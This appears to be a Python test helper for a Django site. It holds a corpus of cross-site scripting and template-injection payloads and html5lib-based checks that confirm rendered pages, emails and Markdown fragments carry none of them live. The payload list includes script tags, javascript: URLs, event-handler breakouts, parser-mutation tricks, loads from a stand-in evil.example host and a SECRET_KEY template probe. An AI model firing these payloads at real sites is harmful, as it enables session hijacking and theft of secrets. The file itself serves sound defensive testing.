"""A corpus of known XSS payloads and checks that rendered HTML carries none of them.

Every Markdown field's tests post each payload through the real form and check the
page that shows it with `assert_inert`: the payload may appear as text, never as
markup that runs. `assert_page_inert` and `assert_email_inert` check whole documents,
parsed by html5lib exactly as a browser would (the HTML standard's algorithm), so an
attribute broken out of its quotes or a tag the parser re-nests is seen as the
browser sees it. tests/security/ puts the corpus through every field, page, email
and export; tests/browser/test_xss_and_csp_crawl.py runs the same pages in Chromium.

Payloads that would run call `alert(...)` or set `window.__xss`; those that would
reach out name evil.example or /xss-htmx/; template payloads evaluate to 6643.
"""

import re

import html5lib
from django.conf import settings

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<!--<script>alert(1)</script>-->",
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    "[x](<javascript:alert(1)>)",
    # --- javascript: and vbscript: URLs: encodings, whitespace, control characters, case
    "[x](javascript&colon;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](\x01javascript:alert(1))",
    "[x](JAVASCRIPT:window.__xss=1)",
    "[x](javascript://%0aalert(1))",
    '[x](javascript:alert(1) "title")',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    "<a href='javas&#99;ript:alert(1)'>x</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    '<a href="\x0bjavascript:alert(1)">x</a>',
    # --- data: URLs
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    # --- event handlers
    "<img src=x:x onerror=window.__xss=1>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1)>x</div>",
    "<x onclick=alert(1) tabindex=1>click</x>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<body onpageshow=alert(1)>",
    # --- SVG and MathML, including parser-confusion (mutation) tricks
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    # --- raw HTML that escapes its context or restyles and retargets the page
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>window.__xss=1</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<img src="https://evil.example/track.png">',
    '<a href="https://ok.example" target=_blank>tab</a>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div hx-get="/xss-htmx/" hx-trigger="load">x</div>',
    '<a hx-on:click="alert(1)" hx-on::load="alert(1)">x</a>',
    # --- Markdown link and image tricks, reference-style links, autolinks, extensions
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][]\n\n[x]: data:text/html,<script>alert(1)</script>",
    '![x][img]\n\n[img]: javascript:alert(1) "t"',
    "<javascript:alert(1)>",
    '<https://ok.example/" onmouseover="alert(1)>',
    '<mailto:x@ok.example?body="><script>alert(1)</script>>',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/'onmouseover='alert(1))",
    '![x" onerror="alert(1)](https://ok.example/x.png)',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example){: onclick=alert(1) }",
    'A heading\n{: onclick="alert(1)" style="color:red" }',
    '*[HTML]: " onmouseover="alert(1)\n\nHTML here',
    "Note[^1]\n\n[^1]: <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <img src=x onerror=alert(1)>",
    # --- HTML entities and other encodings that a second decoding would arm
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    # --- attribute and script-string breakouts for plain fields
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "x onmouseover=alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "` onmouseover=alert(1) `",
    '" style="background:url(javascript:alert(1))',
    '" hx-get="/xss-htmx/" hx-trigger="load',
    "javascript:alert(1)",
    '";alert(1);//',
    "');alert(1);//",
    # --- template injection (Django, Jinja, JavaScript and other engines)
    "{{ 91|add:6552 }}",
    "{{ 91*73 }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{% widthratio 91 1 73 %}",
    "${91*73}",
    "#{91*73}",
    "<%= 91*73 %>",
    "{{constructor.constructor('alert(1)')()}}",
]

# The per-form tests (tests/*/test_xss.py and their like) make requests per payload:
# they take a quarter of the corpus, spread evenly across it, so the suite stays
# fast; tests/security/ puts the whole corpus through every field in one crawl.
FORM_PAYLOADS = PAYLOADS[::4]


def assert_inert(html: str) -> None:
    """Fail if member-written HTML, parsed as a browser parses it, contains markup
    that could run script, load from elsewhere or restyle the page."""
    _assert_none(inert_problems(html, "fragment"), "member text")


# Text that only appears if a payload was armed: a call it makes, a host or path it
# reaches, the product the template payloads compute.
SIGNATURES = ("alert(", "alert`", "__xss", "evil.example", "xss-htmx")
TEMPLATE_RESULT = "6643"

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "cite",
    "ping", "srcset", "lowsrc", "dynsrc", "codebase", "manifest", "icon", "to", "values",
}  # fmt: skip
NEVER_TAGS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style",
    "portal", "foreignobject", "isindex", "noembed", "xmp", "plaintext",
}  # fmt: skip
# Member text is never more than what render_markdown allows: none of these.
NOT_IN_MEMBER_TEXT = {
    "script", "form", "input", "button", "textarea", "select", "svg", "math", "img",
    "video", "audio", "source", "link", "meta", "marquee", "details", "template",
}  # fmt: skip
SAFE_DATA_IMAGE = re.compile(r"data:image/(png|gif|jpeg|webp);", re.I)


def _as_browser_reads(url: str) -> str:
    """The URL as the WHATWG URL parser sees it before reading its scheme: C0 controls
    and spaces trimmed from both ends, tabs and newlines removed everywhere."""
    return re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21))))).lower()


def _local(name: str) -> str:
    return name.rsplit("}", 1)[-1].lower()


def _attribute_problems(tag: str, name: str, value: str, mode: str) -> list[str]:
    where = f"<{tag} {name}={value[:60]!r}>"
    if name.startswith("on") or name.startswith("hx-on") or name.startswith("data-hx-on"):
        return [f"event handler {where}"]
    if name == "srcdoc":
        return [f"srcdoc {where}"]
    if name == "style":
        if mode != "email":
            return [f"inline style attribute {where}"]
        if re.search(r"url\(|expression|javascript|behavior|@import", value, re.I):
            return [f"active CSS in an email {where}"]
    if name == "target" and value.lower() != "_self":
        return [f"a link that opens elsewhere {where}"]
    if name in URL_ATTRIBUTES:
        url = _as_browser_reads(value)
        if name not in ("href", "action", "formaction", "cite") and url.startswith(
            ("http:", "https:", "//")
        ):
            return [f"a resource loaded from elsewhere {where}"]
        if url.startswith(("javascript:", "vbscript:", "livescript:")):
            return [f"script URL {where}"]
        if url.startswith("data:") and not (tag == "img" and SAFE_DATA_IMAGE.match(url)):
            return [f"data URL {where}"]
    if (name.startswith(("hx-", "data-hx-")) or name == "attributename") and any(
        signature in value for signature in SIGNATURES
    ):
        return [f"member text in an htmx attribute {where}"]
    return []


def inert_problems(html: str, mode: str = "page") -> list[str]:
    """Everything in `html` that could run script, load from elsewhere or restyle.

    mode: "page" (a whole page of this site: its own /static/ scripts only, no
    inline style), "email" (a whole email: no script at all, inline style allowed
    but never active) or "fragment" (member text: only what render_markdown keeps).
    """
    # A fragment is parsed as a document too: in a page, a stray <body onload> lends
    # its attributes to the real body, and a <meta> or <link> still takes effect.
    root = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    body = root.find("body")
    body_elements = {id(element) for element in body.iter()} if body is not None else set()
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = _local(element.tag)
        in_body = id(element) in body_elements
        if tag in NEVER_TAGS:
            problems.append(f"<{tag}> element")
        if mode == "fragment" and tag in NOT_IN_MEMBER_TEXT:
            problems.append(f"<{tag}> in member text")
        if tag == "script" and mode != "fragment":
            src = element.get("src", "")
            inline = (element.text or "").strip()
            if mode == "email" or not src.startswith("/static/") or inline:
                problems.append(f"script {src or inline[:60]!r}")
        if tag in ("meta", "link") and in_body and mode != "fragment":
            problems.append(f"<{tag}> in the body")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            problems.append("meta refresh")
        if tag in ("set", "animate") and _local(element.get("attributeName", "")).startswith(
            ("on", "href")
        ):
            problems.append(f"SVG <{tag}> rewriting an attribute")
        for name, value in element.attrib.items():
            problems += _attribute_problems(tag, _local(name), value, mode)
    text = " ".join(body.itertext()) if body is not None else ""
    if TEMPLATE_RESULT in text or "'True': True" in text:  # {% debug %} prints the latter
        problems.append("a template payload was evaluated")
    if settings.configured and settings.SECRET_KEY in html:
        problems.append("the SECRET_KEY is on the page")
    return problems


def _assert_none(problems: list[str], what: str) -> None:
    assert not problems, f"active markup in {what}: " + "; ".join(problems[:10])


def assert_page_inert(html: str, where: str = "the page") -> None:
    """Fail if a whole page of this site carries anything that could run or restyle."""
    _assert_none(inert_problems(html, "page"), where)


def assert_email_inert(html: str, where: str = "the email") -> None:
    """Fail if an email's HTML part carries script, handlers or active CSS."""
    _assert_none(inert_problems(html, "email"), where)


def assert_links_safe(html: str) -> None:
    """Every link a member wrote carries rel="nofollow noopener"."""
    for tag in re.findall(r"<a\s[^>]*>", html, re.I):
        assert 'rel="nofollow noopener"' in tag, tag
